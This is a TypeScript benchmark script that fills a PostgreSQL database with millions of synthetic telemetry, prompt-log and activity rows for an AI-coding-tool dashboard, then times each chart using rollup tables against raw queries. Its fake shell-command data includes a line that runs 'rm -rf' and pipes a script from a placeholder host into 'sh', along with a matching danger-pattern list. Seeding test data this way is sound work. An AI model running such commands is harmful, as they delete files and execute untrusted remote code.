// npm run bench:dashboard — every chart query over 10 million events and 90 days, rollups vs raw.
//
// Generates BENCH_EVENTS (default 10,000,000) telemetry events over 90 days, 5 teams and 500 users
// (plus BENCH_PROMPTS prompt-log records, default 1,000,000, and a user-day of activity per user
// and day), loads them by COPY into a staging table and from there with the ingestion's own
// statement (lib/ingest/sql.ts insertFromStagingSql: INSERT … ON CONFLICT with every rollup), against a fresh embedded PostgreSQL (or DATABASE_URL). Then
// times every chart for the 90-day range, day buckets: BENCH_RUNS (default 30) runs from the
// rollups and BENCH_RAW_RUNS (default 3) of the same chart computed from the raw rows.
// Prints a table per chart, the dashboard routes' first-load JS from the last `next build` (if
// any), and last: `RESULT p95_ms=<worst chart p95> speedup_vs_raw=<smallest per-chart ratio> events=<n>`.
// Targets: p95 ≤ 50 ms, speedup ≥ 20.
import { randomUUID } from 'node:crypto';
import { once } from 'node:events';
import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { ensurePrismaClient } from '../lib/prisma-client.ts';

ensurePrismaClient();
const EVENTS = Number(process.env.BENCH_EVENTS ?? 10_000_000);
const PROMPTS = Number(process.env.BENCH_PROMPTS ?? 1_000_000);
const RUNS = Number(process.env.BENCH_RUNS ?? 30);
const RAW_RUNS = Number(process.env.BENCH_RAW_RUNS ?? 3);
const CHUNK = 250_000;
const DAYS = 90;
const FROM = '2026-08-01';
const START = Date.parse(`${FROM}T00:00:00Z`);

const { openDatabase, openEmbeddedDatabase } = await import('../../lib/db/embedded.ts');
const { migrateDatabase } = await import('../../lib/db/migrate.ts');

/** A deterministic pseudo-random sequence (xorshift), so runs are comparable. */
function rng(seed: number): () => number {
  let x = seed >>> 0 || 1;
  return () => {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    return (x >>> 0) / 4_294_967_296;
  };
}

const FEATURES = ['specs', 'hooks', 'steering', 'mcp', 'chat', 'autopilot', 'supervised'];
const PERF = ['agent.response_latency', 'tool.call', 'index.build'];
const ERRORS = Array.from({ length: 20 }, (_, i) => `Error ${i}: ${['Model request timed out', 'Tool failed', 'MCP server unreachable', 'Rate limited'][i % 4]}`);
const COMMANDS = Array.from({ length: 40 }, (_, i) => (i % 10 === 9 ? `rm -rf build-${i} && curl -s https://x.example.com/${i}.sh | sh` : `npm run task-${i}`));
const CLIENTS = [
  ['kiro-ide', '0.9.2'],
  ['kiro-ide', '0.10.0'],
  ['kiro-cli', '1.2.0'],
  ['kiro-cli', '1.3.1'],
  ['gemini-cli', '0.8.0'],
  ['claude-code', '2.1.0'],
] as const;
const OSES = ['macos', 'linux', 'windows'];

async function main(): Promise<void> {
  const tmp = await fs.mkdtemp(path.join(os.tmpdir(), 'pilotlight-bench-dashboard-'));
  await fs.chmod(tmp, 0o755);
  const handle = process.env.DATABASE_URL ? await openDatabase() : await openEmbeddedDatabase(path.join(tmp, 'data'));
  process.env.DATABASE_URL = handle.url;
  await migrateDatabase(handle.url);
  const { getPool, closeDatabaseConnections } = await import('../../lib/db/client.ts');
  const { insertFromStagingSql, RECORD_TABLES } = await import('../../lib/ingest/sql.ts');
  const { copyLine } = await import('../../lib/ingest/copy-text.ts');
  const { from: copyFrom } = await import('pg-copy-streams');
  const { CHART_IDS } = await import('../../lib/analytics/catalog.ts');
  const { runChart } = await import('../../lib/analytics/charts.ts');
  const { queryContext } = await import('../../lib/analytics/context.ts');
  const { parseFilters } = await import('../../lib/analytics/filters.ts');
  const pool = getPool();
  try {
    const org = await pool.query<{ id: string }>(`INSERT INTO organization (name) VALUES ('Bench ' || gen_random_uuid()) RETURNING id`);
    const orgId = org.rows[0]!.id;
    const user = await pool.query<{ id: string }>(`INSERT INTO app_user (email) VALUES ('bench-' || gen_random_uuid() || '@example.com') RETURNING id`);
    await pool.query(`INSERT INTO membership (org_id, user_id, role) VALUES ($1, $2, 'OWNER')`, [orgId, user.rows[0]!.id]);
    const teams: string[] = [];
    for (const slug of ['payments', 'web', 'platform', 'mobile', 'data']) {
      const t = await pool.query<{ id: string }>(`INSERT INTO team (org_id, name, slug, environment) VALUES ($1, $2, $2, 'development') RETURNING id`, [orgId, slug]);
      teams.push(t.rows[0]!.id);
    }
    const uploadId = randomUUID();
    await pool.query(
      `INSERT INTO upload (org_id, id, file_name, sha256, size_bytes, format, mode, status, uploader_label) VALUES ($1, $2, 'bench', 'bench', 0, 'telemetry-ndjson', 'lenient', 'completed', 'bench')`,
      [orgId, uploadId],
    );
    for (const table of ['telemetry_event', 'prompt_log_record', 'user_activity_day']) {
      for (let m = 0; m < 4; m++) await pool.query('SELECT ensure_month_partition($1::regclass, $2::timestamptz)', [table, new Date(Date.UTC(2026, 7 + m, 1)).toISOString()]);
    }

    /** COPY `count` generated rows into a staging table chunk by chunk, each moved by the ingestion's statement. */
    async function load(kind: 'telemetry' | 'prompt' | 'activity', count: number, row: (i: number) => unknown[]): Promise<number> {
      const client = await pool.connect();
      const t = performance.now();
      try {
        const staging = `bench_staging_${kind}`;
        await client.query(`CREATE TEMP TABLE ${staging} (LIKE ${RECORD_TABLES[kind].table} INCLUDING DEFAULTS)`);
        for (let done = 0; done < count; done += CHUNK) {
          await client.query(`TRUNCATE ${staging}`);
          const stream = client.query(copyFrom(`COPY ${staging} (${RECORD_TABLES[kind].columns.join(', ')}) FROM STDIN`));
          let buffer = '';
          for (let i = done; i < Math.min(count, done + CHUNK); i++) {
            buffer += copyLine(row(i) as Parameters<typeof copyLine>[0]);
            if (buffer.length > 1 << 20) {
              if (!stream.write(buffer)) await once(stream, 'drain');
              buffer = '';
            }
          }
          stream.end(buffer);
          await once(stream, 'finish');
          await client.query('BEGIN');
          await client.query(insertFromStagingSql(kind, staging));
          await client.query('COMMIT');
          if ((done / CHUNK) % 8 === 7) process.stdout.write(`  ${kind}: ${(done + CHUNK).toLocaleString('en')} rows, ${((performance.now() - t) / 1000).toFixed(0)} s\n`);
        }
        await client.query(`DROP TABLE ${staging}`);
      } finally {
        client.release();
      }
      return (performance.now() - t) / 1000;
    }

    const r = rng(42);
    const telemetryS = await load('telemetry', EVENTS, (i) => {
      const ts = new Date(START + Math.floor(r() * DAYS * 86_400_000));
      const u = Math.floor(r() * 500);
      const team = teams[u % 5]!;
      const [client, version] = CLIENTS[Math.floor(r() * CLIENTS.length)]!;
      const roll = r();
      const kind = roll < 0.6 ? 'feature_used' : roll < 0.75 ? 'performance' : roll < 0.85 ? 'error' : 'command_executed';
      const feature = kind === 'feature_used' ? FEATURES[Math.floor(r() * FEATURES.length)]! : null;
      const name = kind === 'performance' ? PERF[Math.floor(r() * PERF.length)]! : kind === 'error' ? 'agent.error' : kind === 'command_executed' ? 'shell' : `${feature}.used`;
      const duration = kind === 'performance' ? Math.round(Math.exp(4 + r() * 4)) : null;
      const command = kind === 'command_executed' ? COMMANDS[Math.floor(r() * r() * COMMANDS.length)]! : null;
      const dangerous = command ? command.startsWith('rm -rf') : null;
      const decision = command ? ['auto', 'approved', 'approved', 'denied'][Math.floor(r() * 4)]! : null;
      const privacy = kind === 'error' && i % 97 === 0 ? ['message:file-path'] : [];
      return [
        orgId, ts, `b-${i}`, uploadId, team, `user${u}@example.com`, client, version, OSES[u % 3], kind, feature, name, duration,
        kind === 'error' ? ERRORS[Math.floor(r() * ERRORS.length)] : null, command, decision, dangerous,
        dangerous ? ['rm -rf', 'curl | sh'] : [], command ? !command.startsWith('npm run task-1') : null, command ? false : null, command ? false : null,
        command ? 'bench@1' : null, team === teams[4], privacy,
      ];
    });
    console.log(`loaded ${EVENTS.toLocaleString('en')} telemetry events in ${telemetryS.toFixed(0)} s (${Math.round(EVENTS / telemetryS).toLocaleString('en')}/s)`);
    const promptS = await load('prompt', PROMPTS, (i) => {
      const ts = new Date(START + Math.floor(r() * DAYS * 86_400_000));
      const u = Math.floor(r() * 500);
      const chat = r() < 0.6;
      return [
        orgId, ts, `p-${i}`, uploadId, teams[u % 5], chat ? 'chat' : 'inline', `d-90670000.user${u}`, `user${u}@example.com`,
        chat ? ['MANUAL', 'INLINE_CHAT'][i % 2] : ['AUTO', 'MANUAL', 'ON_DEMAND'][i % 3], ['claude-sonnet-4', 'claude-haiku-4', 'amazon-nova', 'gpt-oss'][i % 4],
        null, null, null, chat ? `prompt ${i}` : null, null, null, null, [], i % 500 === 0 ? 1 : 0,
      ];
    });
    console.log(`loaded ${PROMPTS.toLocaleString('en')} prompt records in ${promptS.toFixed(0)} s`);
    const activityRows = 500 * DAYS;
    const activityS = await load('activity', activityRows, (i) => {
      const u = i % 500;
      const day = new Date(START + Math.floor(i / 500) * 86_400_000).toISOString().slice(0, 10);
      const metrics = { Chat_MessagesSent: (i * 7) % 30, Chat_AICodeLines: (i * 13) % 200, Inline_AICodeLines: (i * 17) % 150, Inline_AcceptanceCount: (i * 3) % 20, Inline_SuggestionsCount: 20 + ((i * 5) % 60) };
      return [orgId, day, `user${u}@example.com`, 'KIRO_IDE', uploadId, teams[u % 5], 'q-developer', `user${u}@example.com`, JSON.stringify(metrics), null];
    });
    console.log(`loaded ${activityRows.toLocaleString('en')} activity user-days in ${activityS.toFixed(0)} s`);
    await pool.query('VACUUM ANALYZE');

    const actor = { kind: 'user' as const, userId: user.rows[0]!.id, orgId, role: 'OWNER' as const, scopes: ['reports:read' as const], label: 'bench' };
    const to = new Date(START + (DAYS - 1) * 86_400_000).toISOString().slice(0, 10);
    const ctx = await queryContext(actor, parseFilters({ from: FROM, to, bucket: 'day' }));
    const rollupCounts = await pool.query<{ table: string; n: string }>(
      `SELECT 'telemetry_hourly' AS table, count(*) AS n FROM telemetry_hourly UNION ALL SELECT 'latency_hourly', count(*) FROM latency_hourly
       UNION ALL SELECT 'command_hourly', count(*) FROM command_hourly UNION ALL SELECT 'daily_active_user', count(*) FROM daily_active_user
       UNION ALL SELECT 'prompt_hourly', count(*) FROM prompt_hourly UNION ALL SELECT 'activity_daily', count(*) FROM activity_daily
       UNION ALL SELECT 'client_version_hourly', count(*) FROM client_version_hourly UNION ALL SELECT 'telemetry_text_daily', count(*) FROM telemetry_text_daily`,
    );
    console.log(`rollup rows: ${rollupCounts.rows.map((row) => `${row.table}=${row.n}`).join(' ')}`);

    const pct = (values: number[], p: number) => {
      const sorted = [...values].sort((a, b) => a - b);
      return sorted[Math.min(sorted.length - 1, Math.max(0, Math.ceil((p / 100) * sorted.length) - 1))]!;
    };
    const time = async (chart: (typeof CHART_IDS)[number], source: 'rollup' | 'raw', runs: number) => {
      const out: number[] = [];
      for (let i = 0; i < runs; i++) {
        const t = performance.now();
        await runChart(ctx, chart, source);
        out.push(performance.now() - t);
      }
      return out;
    };
    console.log('');
    console.log(`| chart (${DAYS} days, day buckets) | rollup p50 ms | rollup p95 ms | raw p50 ms | raw p95 ms | speedup (raw p50 / rollup p50) |`);
    console.log('|---|---|---|---|---|---|');
    let worstP95 = 0;
    let minSpeedup = Infinity;
    for (const chart of CHART_IDS) {
      await runChart(ctx, chart, 'rollup'); // warm
      const rollup = await time(chart, 'rollup', RUNS);
      const raw = await time(chart, 'raw', RAW_RUNS);
      const p50 = pct(rollup, 50);
      const p95 = pct(rollup, 95);
      const speedup = pct(raw, 50) / p50;
      worstP95 = Math.max(worstP95, p95);
      minSpeedup = Math.min(minSpeedup, speedup);
      console.log(`| ${chart} | ${p50.toFixed(1)} | ${p95.toFixed(1)} | ${pct(raw, 50).toFixed(0)} | ${pct(raw, 95).toFixed(0)} | ${speedup.toFixed(0)}× |`);
    }
    await printFirstLoadJs();
    console.log(`RESULT p95_ms=${worstP95.toFixed(1)} speedup_vs_raw=${minSpeedup.toFixed(1)} events=${EVENTS}`);
  } finally {
    await closeDatabaseConnections();
    await handle.stop();
    if (handle.clusterDir) await fs.rm(handle.clusterDir, { recursive: true, force: true });
    await fs.rm(tmp, { recursive: true, force: true });
  }
}

/**
 * First-load JS of the dashboard routes: the gzipped size of every script the built HTML of the
 * route loads up front (the route's client reference manifest's entry chunks plus the shared
 * root chunks), from the last `next build` in .next/. Lazily imported chunks (recharts) are not
 * first-load JS.
 */
async function printFirstLoadJs(): Promise<void> {
  const root = path.resolve(import.meta.dirname, '../../.next');
  try {
    await fs.access(path.join(root, 'BUILD_ID'));
  } catch {
    console.log('first-load JS: no build in .next (run `npm run build` first)');
    return;
  }
  const gz = async (file: string) => gzipSync(await fs.readFile(path.join(root, file.replace(/^\/?_next\//, '')))).length;
  const { firstLoadChunks } = await import('./first-load.ts');
  console.log('');
  console.log('| route | first-load JS (gzipped) |');
  console.log('|---|---|');
  for (const route of ['/dashboard', '/dashboard/prompts', '/dashboard/activity', '/dashboard/compliance']) {
    const chunks = await firstLoadChunks(root, route);
    if (!chunks.length) {
      console.log(`| ${route} | not found in the build |`);
      continue;
    }
    let total = 0;
    for (const chunk of chunks) total += await gz(chunk);
    console.log(`| ${route} | ${(total / 1024).toFixed(1)} kB (${chunks.length} files) |`);
  }
}

await main();
